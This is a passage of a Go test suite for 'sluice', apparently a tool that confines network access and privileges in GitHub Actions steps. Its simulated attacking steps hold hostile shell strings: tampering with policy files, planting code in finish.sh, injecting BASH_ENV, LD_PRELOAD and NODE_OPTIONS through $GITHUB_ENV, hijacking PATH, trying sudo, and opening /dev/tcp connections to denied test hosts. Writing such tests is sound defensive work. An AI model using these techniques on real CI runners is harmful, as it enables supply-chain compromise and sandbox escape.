		t.Fatal(err)
	}
	_ = os.Chown(evil, runnerUID, runnerUID)
	plantDir := filepath.Join(r.home, "bin")

	start := time.Now()
	out, code, _ := j.step(tcpTo("allowed.test", allowedPort) +
		"set +e\n" +
		// The policy.
		"echo '{\"allowed_hosts\": [\"denied.test\", \"203.0.113.0/24\"]}' > " + j.ctl + "/network_allowlist.json && echo WROTE-POLICY\n" +
		"echo '{\"allowed_hosts\": [\"denied.test\"]}' > \"$SLUICE_CI_DIR/network_allowlist.json\"\n" +
		// The pid file.
		"echo 1 > " + j.ctl + "/daemon.pid && echo WROTE-PID\n" +
		"echo 1 > \"$SLUICE_CI_DIR/daemon.pid\"\n" +
		// The downloaded action's code, and the directories above it.
		"echo 'bash " + evil + "' >> " + finishSh + " && echo PLANTED\n" +
		"mv " + filepath.Join(r.work, "_actions") + " " + filepath.Join(r.work, "_actions.old") + " && echo MOVED-ACTIONS\n" +
		"mv " + r.work + " " + r.work + ".old && echo MOVED-WORK\n" +
		"echo x > " + filepath.Join(r.prefix, "etc", "sluice-ci.conf") + " && echo WROTE-CONF\n" +
		// The runner's own file commands, directly.
		"for f in " + filepath.Join(j.dir, "_runner_file_commands") + "/*; do echo BASH_ENV=" + evil + " >> \"$f\" && echo WROTE-RUNNER-FILE; done\n" +
		// The environment and search path of later steps.
		"echo BASH_ENV=" + evil + " >> \"$GITHUB_ENV\"\n" +
		"echo SLUICE=" + evil + " >> \"$GITHUB_ENV\"\n" +
		"echo LD_PRELOAD=/nonexistent.so >> \"$GITHUB_ENV\"\n" +
		"printf 'NODE_OPTIONS<<EOF\\n--require " + evil + "\\nEOF\\n' >> \"$GITHUB_ENV\"\n" +
		"echo KEPT_FOR_LATER=yes >> \"$GITHUB_ENV\"\n" +
		"mkdir -p " + plantDir + " && echo " + plantDir + " >> \"$GITHUB_PATH\"\n" +
		"echo " + filepath.Join(r.work, "_tool", "node", "bin") + " >> \"$GITHUB_PATH\"\n" +
		// Sudo, to leave the session.
		"sudo -n true && echo SUDO-WORKED\n" +
		"sleep 1.5\n(exec 3<>/dev/tcp/denied.test/" + atoiString(int(deniedPort)) + ") && echo reached denied.test\nexit 0\n")
	if code != 0 || !strings.Contains(out, "reached allowed.test") {
		t.Fatalf("the attacking step's positive control failed: exit %d\n%s", code, out)
	}
	if !strings.Contains(out, "no_new_privs") {
		t.Errorf("sudo in a confined step was not refused as setuid sudo is under no_new_privs:\n%s", out)
	}
	for _, bad := range []string{"WROTE-POLICY", "WROTE-PID", "PLANTED", "MOVED-ACTIONS", "MOVED-WORK", "WROTE-CONF", "WROTE-RUNNER-FILE", "SUDO-WORKED", "reached denied.test"} {
		if strings.Contains(out, bad) {
			t.Errorf("a confined step did %s", bad)
		}
	}
	for _, want := range []string{"dropped from $GITHUB_ENV", "BASH_ENV", "SLUICE", "LD_PRELOAD", "NODE_OPTIONS", "dropped from $GITHUB_PATH", plantDir} {
		if !strings.Contains(out, want) {
			t.Errorf("the step's log does not say %q was dropped", want)
		}
	}
	if got := j.getEnv("KEPT_FOR_LATER"); got != "yes" {
		t.Errorf("an ordinary variable a confined step set did not reach later steps (%q)", got)
	}
	for _, k := range []string{"BASH_ENV", "LD_PRELOAD", "NODE_OPTIONS"} {
		if v := j.getEnv(k); v != "" {
			t.Errorf("a confined step set %s=%q for later steps", k, v)
		}
	}
	if p := j.getEnv("PATH"); strings.Contains(p, plantDir) || !strings.Contains(p, filepath.Join(r.work, "_tool", "node", "bin")) {
		t.Errorf("later steps' PATH: want the tool cache's entry and not %s: %s", plantDir, p)
	}
	if b, _ := os.ReadFile(finishSh); !bytes.Equal(b, orig) {
		t.Errorf("a confined step changed the downloaded action's finish.sh")
	}

	// The next confined step is still confined (the policy did not
	// change), and the finish step ran nothing the step chose.
	if out, code, _ := j.step(tcpTo("denied.test", deniedPort)); code == 0 {
		t.Errorf("a later confined step reached denied.test:\n%s", out)
	}
	decoy := exec.Command("sleep", "60")
	if err := decoy.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = decoy.Process.Kill(); _ = decoy.Wait() })
	daemonPID := atoi(readFile(t, filepath.Join(j.ctl, "daemon.pid")))
	j.finish()
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("code a confined step chose ran unconfined after it")
	}
	if err := decoy.Process.Signal(syscall.Signal(0)); err != nil {
		t.Errorf("finish killed a process a step chose")
	}
	if _, err := os.Stat("/proc/" + atoiString(daemonPID)); err == nil {
		t.Errorf("the job's daemon (pid %d) outlived finish", daemonPID)
	}
	r.w.AssertNothingArrived(t, world.All(world.Since(start), world.To(world.DeniedV4)), 300*time.Millisecond)

	// The twins: what the confined step tried works where sluice does not
	// stand in the way.
	j = r.startJob(t, "twin", "INPUT_MODE=block", "INPUT_ALLOWLIST=allowed.test")
	// Root's change to the policy reaches a confined step within a second.
	if err := os.WriteFile(filepath.Join(j.ctl, "network_allowlist.json"), []byte(`{"allowed_hosts": ["allowed.test", "denied.test"]}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, code, _ := j.step("sleep 1.5\n" + tcpTo("denied.test", deniedPort)); code != 0 {
		t.Errorf("twin: the daemon did not apply root's change to the allowlist: exit %d\n%s", code, out)
	}
	// The runner's user, unconfined, can change the downloaded action, and
	// an unconfined step's $GITHUB_ENV lines reach the next bash step.
	out, code = j.plainStep("twin_plant", "echo '# planted' >> "+finishSh+" && echo PLANTED\n"+
		"echo BASH_ENV="+evil+" >> \"$GITHUB_ENV\"\n")
	if code != 0 || !strings.Contains(out, "PLANTED") {
		t.Errorf("twin: the runner's user could not append to the downloaded action: exit %d\n%s", code, out)
	}
	if err := os.WriteFile(finishSh, orig, 0o755); err != nil {
		t.Fatal(err)
	}
	before := time.Now()
	if _, code := j.plainStep("twin_next", "true\n"); code != 0 {
		t.Errorf("twin: the next bash step failed")
	}
	if _, err := os.Stat(marker); err != nil {
		t.Errorf("twin: BASH_ENV from an unconfined step did not run in the next bash step: the attack's twin shows nothing")
	}
	if !r.w.WaitArrival(world.All(world.Since(before), world.To(world.DeniedV4)), 2*time.Second) {
		t.Errorf("twin: the planted BASH_ENV's connection did not reach the world")
	}
	_ = os.Remove(marker)
	j.setEnv("BASH_ENV", "")
	j.finish()
}

func readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(b))
}

// TestGitHubConfineJob is `confine: job`: after the setup step, every
// later step is confined, not only `run:` steps: a step the worker starts
// itself (a `uses:` or post step: here a bash step, as the finish
// action's is) reaches only the job's allowlist and the runner's
// endpoints, `sudo` fails in it, a `run:` step gets only the job's
// allowlist, and the finish step leaves the worker confined for the post
// steps after it. When the worker exits, sudo is back and the daemon
// gone. The unconfined twin is the same worker's step before setup.
func TestGitHubConfineJob(t *testing.T) {
	r := newRunner(t)
	allowedPort := r.w.ListenTCP(t, world.AllowedV4)
	deniedPort := r.w.ListenTCP(t, world.DeniedV4)
	runnerPort := r.w.ListenTCP(t, world.AllowedV6)
	wk := r.startWorker(t)
	denied := "(exec 3<>/dev/tcp/203.0.113.20/" + atoiString(int(deniedPort)) + ") && echo reached denied\n"
	toRunner := "(exec 3<>/dev/tcp/runner.test/" + atoiString(int(runnerPort)) + ") && echo reached runner.test\n"

	// The twin: before setup, a step of the worker reaches the denied host
	// and sudo works.
	pre := &job{t: t, r: r, w: r.w, dir: filepath.Join(r.work, "_temp"), worker: wk,
		env: []string{"PATH=" + r.sudoDir + ":/usr/sbin:/usr/bin:/sbin:/bin", "HOME=" + r.home}}
	_ = os.MkdirAll(filepath.Join(pre.dir, "_runner_file_commands"), 0o755)
	mustRun(t, "chown", "-R", atoiString(runnerUID)+":"+atoiString(runnerUID), pre.dir)
	before := time.Now()
	if out, _ := pre.plainStep("before", denied+"sudo -n true && echo SUDO-WORKED\n"); !strings.Contains(out, "reached denied") || !strings.Contains(out, "SUDO-WORKED") {
		t.Fatalf("twin: before setup the worker's step did not reach the denied host or sudo failed:\n%s", out)
	}
	if !r.w.WaitArrival(world.All(world.Since(before), world.To(world.DeniedV4)), 2*time.Second) {
		t.Fatal("twin: the world recorded nothing from the unconfined step")
	}
	r.w.WaitQuiet(world.To(world.DeniedV4), 300*time.Millisecond, 3*time.Second)

	j := r.startJobIn(t, wk, "job", "INPUT_MODE=block", "INPUT_ALLOWLIST="+r.sudoAllowlist(t, "allowed.test"), "INPUT_CONFINE=job", "INPUT_RUNNER_ENDPOINTS=runner.test")
	start := time.Now()
	// A step the worker runs itself (uses:, post): the job's allowlist and
	// the runner's endpoints, nothing else, and no sudo.
	out, _ := j.plainStep("uses_like", tcpTo("allowed.test", allowedPort)+"set +e\n"+toRunner+denied+
		"sudo -n true && echo SUDO-WORKED\n")
	if !strings.Contains(out, "reached allowed.test") || !strings.Contains(out, "reached runner.test") {
		t.Errorf("a worker step under confine=job lost the job's allowlist or the runner's endpoints:\n%s", out)
	}
	for _, bad := range []string{"reached denied", "SUDO-WORKED"} {
		if strings.Contains(out, bad) {
			t.Errorf("a worker step under confine=job: %s\n%s", bad, out)
		}
	}
	if !strings.Contains(out, "sudo: a password is required") {
		t.Errorf("sudo in a worker step under confine=job was not refused for want of its sudoers rule:\n%s", out)
	}
	// A run: step: the job's allowlist only.
	out, _, _ = j.step(tcpTo("allowed.test", allowedPort) + "set +e\n" + toRunner + denied + "exit 0\n")
	if !strings.Contains(out, "reached allowed.test") || strings.Contains(out, "reached runner.test") || strings.Contains(out, "reached denied") {
		t.Errorf("a run: step under confine=job: want the job's allowlist only:\n%s", out)
	}
	// finish, then a post step: still confined.
	sum := j.finish()
	if !strings.Contains(sum, "block mode") || !strings.Contains(sum, "refused") {
		t.Errorf("the job summary under confine=job:\n%s", sum)
	}
	if out, _ := j.plainStep("post", "set +e\n"+denied+"sudo -n true && echo SUDO-WORKED\nexit 0\n"); strings.Contains(out, "reached denied") || strings.Contains(out, "SUDO-WORKED") {
		t.Errorf("a post step after finish under confine=job was not confined:\n%s", out)
	}
	r.w.AssertNothingArrived(t, world.All(world.Since(start), world.To(world.DeniedV4)), 300*time.Millisecond)

	// The job ends: the worker exits, sudo comes back, the daemon goes.
	daemonPID := atoi(readFile(t, filepath.Join(j.ctl, "daemon.pid")))
	wk.stop()
	deadline := time.Now().Add(20 * time.Second)
	for {
		_, serr := os.Stat(r.sudoers)
		_, derr := os.Stat("/proc/" + atoiString(daemonPID))
		if serr == nil && derr != nil {
			break
		}
		if time.Now().After(deadline) {
			log, _ := os.ReadFile(filepath.Join(j.ctl, "daemon.log"))
			t.Fatalf("20 s after the worker exited: sudoers back %v, daemon gone %v\n%s", serr == nil, derr != nil, log)
		}
		time.Sleep(100 * time.Millisecond)
	}
}
